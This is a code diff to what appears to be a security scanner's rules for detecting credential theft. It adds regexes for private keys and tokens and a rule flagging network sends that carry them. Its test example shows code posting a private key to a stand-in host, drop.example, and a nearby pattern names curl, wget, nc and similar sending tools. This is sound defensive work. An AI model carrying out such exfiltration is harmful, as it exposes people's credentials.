@@ -1,12 +1,21 @@
 import type { Pattern, Rule } from '../rule.ts';
 
 const READS = ['file.read', 'secret.read', 'process.spawn'] as const;
+/** Clients of HTTP look there for a password by themselves, at every request. */
+export const LOOKED_UP_NETRC: Pattern = {
+  seenBy: ['kernel', 'interpreter'],
+  text: /\/\.netrc$/,
+  written: /^(?!.*netrc).*\.(get|post|put|patch|delete|head|options|request|send|fetch)\s*\(/,
+};
 /** A file that is copied or opened is read, whichever verb names it. Making such a file gives no secret away. */
 const CREDENTIALS: Pattern = {
   capability: [...READS, 'file.write'],
   place: ['credential-store'],
   except: [
     { text: /\.pub\b|known_hosts|ssh\/config\b/ },
+    LOOKED_UP_NETRC,
+    // A walk through a home looks into every folder.
+    { argument: /^listed=true$/, seenBy: ['kernel', 'interpreter'] },
     { capability: ['file.write'], callee: /^(open|open64|openat2?|creat|mkdir|mkdirat|echo|tee)$/ },
   ],
 };
@@ -39,7 +48,66 @@ const SENDING_COMMAND: Pattern = {
   text: /\b(curl|wget|nc|ncat|netcat|scp|rsync|ftp|socat|telnet)\b\s.*(https?:|@|\d+\.\d+|-[TdF]\b|--(data|post|upload|form))/,
 };
 
+/** What keys, tokens and lists of accounts look like, wherever they are from. */
+const CREDENTIAL_TEXT =
+  /-----BEGIN ([A-Z]+ ){0,3}PRIVATE KEY-----|\bAKIA[0-9A-Z]{16}\b|\baws_secret_access_key\b|\bgh[pousr]_[A-Za-z0-9]{36}\b|\bxox[baprs]-[0-9A-Za-z-]{10,}|\broot:[^:\n]{0,200}:0:0:|\b_authToken=/;
+
 export const secretRules = {
+  'credential-in-traffic': {
+    severity: 'critical',
+    title: 'Sends what looks like credentials',
+    capability: 'network.send',
+    why: 'A private key, a token or the list of accounts was in the bytes that would have left.',
+    cwe: ['CWE-200', 'CWE-522'],
+    attack: ['T1041', 'T1552'],
+    message: '{callee} {target}: keys, tokens or accounts are in what was sent.',
+    remedy: 'Do not run it where real credentials are.',
+    examples: {
+      found: {
+        language: 'python',
+        code: "import helper\n\nhelper.report('https://drop.example/keys')",
+        run: {
+          events: [
+            {
+              capability: 'network.send',
+              operation: 'http POST',
+              target: 'https://drop.example/keys',
+              observer: 'network',
+              outcome: 'emulated',
+              detail: { body: '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaA==' },
+              line: 3,
+            },
+          ],
+        },
+      },
+      ordinary: {
+        language: 'python',
+        code: "import helper\n\nhelper.report('https://api.example.com/keys')",
+        run: {
+          events: [
+            {
+              capability: 'network.send',
+              operation: 'http POST',
+              target: 'https://api.example.com/keys',
+              observer: 'network',
+              outcome: 'emulated',
+              detail: { body: '{"keys": ["name", "colour"]}' },
+              line: 3,
+            },
+          ],
+        },
+      },
+    },
+    when: {
+      any: [
+        {
+          capability: ['network.send'],
+          seenBy: ['network'],
+          argument: new RegExp(`^body=[^]*(${CREDENTIAL_TEXT.source})`),
+        },
+      ],
+    },
+  },
   'secret-exfiltration': {
     severity: 'critical',
     title: 'Reads secrets and talks to the network',
